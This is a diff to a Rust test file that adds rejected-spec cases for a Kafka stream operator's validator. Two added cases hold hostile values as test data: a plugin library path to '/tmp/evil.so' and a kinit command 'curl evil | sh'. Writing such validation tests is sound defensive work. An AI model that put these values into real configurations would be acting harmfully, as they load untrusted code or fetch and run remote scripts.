@@ -130,6 +130,52 @@ fn bad_specs() -> Vec<(&'static str, Mutation, &'static str)> {
     }
     vec![
         (
+            "a source property that loads code",
+            Box::new(|v: &mut Value| {
+                v["spec"]["source"]["kafka"]["properties"] =
+                    json!({"plugin.library.paths": "/tmp/evil.so"})
+            }),
+            "spec.source.kafka.properties",
+        ),
+        (
+            "a source property weir sets itself",
+            Box::new(|v: &mut Value| {
+                v["spec"]["source"]["kafka"]["properties"] = json!({"enable.auto.commit": "true"})
+            }),
+            "spec.source.kafka.properties",
+        ),
+        (
+            "a sink property that runs a command",
+            Box::new(|v: &mut Value| {
+                v["spec"]["sink"]["kafka"]["properties"] =
+                    json!({"sasl.kerberos.kinit.cmd": "curl evil | sh"})
+            }),
+            "spec.sink.kafka.properties",
+        ),
+        (
+            "a sink property weir sets itself",
+            Box::new(|v: &mut Value| {
+                v["spec"]["sink"]["kafka"]["properties"] = json!({"enable.idempotence": "false"})
+            }),
+            "spec.sink.kafka.properties",
+        ),
+        (
+            "a worker variable of the operator's",
+            Box::new(|v: &mut Value| {
+                v["spec"]["worker"] =
+                    json!({"env": [{"name": "WEIR_CHECKPOINT_DIR", "value": "/tmp"}]})
+            }),
+            "spec.worker.env",
+        ),
+        (
+            "a worker variable set twice",
+            Box::new(|v: &mut Value| {
+                v["spec"]["worker"] =
+                    json!({"env": [{"name": "TZ", "value": "UTC"}, {"name": "TZ", "value": "CET"}]})
+            }),
+            "spec.worker.env",
+        ),
+        (
             "hopping window without slide",
             Box::new(|v: &mut Value| v["spec"]["window"]["type"] = json!("hopping")),
             "spec.window.slide",
